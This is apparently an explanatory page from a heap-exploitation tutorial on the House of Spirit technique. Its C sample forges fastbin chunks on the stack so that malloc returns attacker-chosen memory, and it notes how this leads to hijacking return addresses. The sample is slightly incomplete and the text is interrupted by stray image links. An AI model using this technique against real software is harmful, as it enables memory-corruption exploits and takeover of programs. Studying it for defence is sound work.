House of Spirit

The House of Spirit is a little different from other attacks in the sense that it involves an attacker overwriting an existing pointer before it is 'freed'. The attacker creates a 'fake chunk', which can reside anywhere in the memory (heap, stack, etc.) and overwrites the pointer to point to it. The chunk has to be crafted in such a manner so as to pass all the security tests. This is not difficult and only involves setting the size and next chunk's size. When the fake chunk is freed, it is inserted in an appropriate binlist (preferably a fastbin). A future malloc call for this size will return the attacker's fake chunk. The end result is similar to 'forging chunks attack' described earlier.

Consider this sample code (download the complete version here):

struct fast_chunk {
  size_t prev_size;
  size_t size;
  struct fast_chunk *fd;
  struct fast_chunk *bk;
  char buf[0x20];                   // chunk falls in fastbin size range

struct fast_chunk fake_chunks[2];   // Two chunks in consecutive memory
// fake_chunks[0] at 0x7ffe220c5ca0// fake_chunks[1] at 0x7ffe220c5ce0

void *ptr, *victim;

ptr = malloc(0x30);                 // First malloc

// Passes size check of "free(): invalid size"
fake_chunks[0].size = sizeof(struct fast_chunk);  // 0x40

// Passes "free(): invalid next size (fast)"
fake_chunks[1].size = sizeof(struct fast_chunk);  // 0x40

// Attacker overwrites a pointer that is about to be 'freed'
ptr = (void *)&fake_chunks[0].fd;

//fake_chunks[0] gets inserted into fastbin

victim = malloc(0x30);              // 0x7ffe220c5cb0 address returned frommalloc

Notice that, as expected, thereturned pointer is 0x10 or 16 bytes ahead of fake_chunks[0]. This is the address where the fdpointer is stored. This attack gives a surface for more attacks. victim points to memory on the stack instead of heap segment. By modifying the return addresses on the stack, the attacker can controlthe execution of the program.

Last updated